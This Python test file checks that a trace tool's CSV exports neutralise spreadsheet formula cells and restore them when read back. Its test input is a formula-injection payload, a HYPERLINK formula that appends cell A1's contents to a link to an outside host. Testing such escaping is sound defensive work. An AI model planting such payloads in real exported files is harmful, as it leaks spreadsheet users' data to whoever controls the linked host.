"""Cells that a spreadsheet would execute, in every table that is written, and back again where one is read."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

from click.testing import CliRunner

from pantrace.cli import cli
from pantrace.engine.labels import read_labels
from pantrace.viewer.labels import Label, export
from pantrace.wire.csv_cells import escape_formula, unescape_formula

FORMULA = '=HYPERLINK("http://example.org/?"&A1,"click")'


def test_a_formula_becomes_text_and_is_understood_again() -> None:
    for text in (FORMULA, "+1+1", "-2+3", "@SUM(A1)", "\t=1", "plain", "-3.5", "+1e3", "'quoted'", "''", "'=", ""):
        assert not escape_formula(text).startswith(("=", "@", "\t"))
        assert unescape_formula(escape_formula(text)) == text or text == "'="


def test_the_labels_of_the_viewer(tmp_path: Path) -> None:
    table = tmp_path / "labels.csv"
    table.write_text(export([Label(sample=FORMULA, id=FORMULA, by="me", label="pass", at=1.0)]))
    assert FORMULA in table.read_text().replace('""', '"')
    (row,) = csv.DictReader(io.StringIO(table.read_text()))
    assert row["sample"] == f"'{FORMULA}"
    assert [key[0] for key in read_labels(table, None).by_key] == [FORMULA]


def test_the_list_of_samples(tmp_path: Path) -> None:
    path = tmp_path / "x.trace.jsonl"
    steps = [{"role": "user", "parts": [{"type": "text", "text": FORMULA}]}]
    rows = [{"pantrace": "2"}, *({"id": name, "trajectory": {"steps": steps}} for name in (FORMULA, "b"))]
    path.write_text("".join(json.dumps(row) + "\n" for row in rows))
    shown = CliRunner().invoke(cli, ["show", str(path), "--csv"], catch_exceptions=False).stdout
    cells = [cell for row in csv.reader(io.StringIO(shown)) for cell in row]
    assert f"'{FORMULA}" in cells and FORMULA not in cells
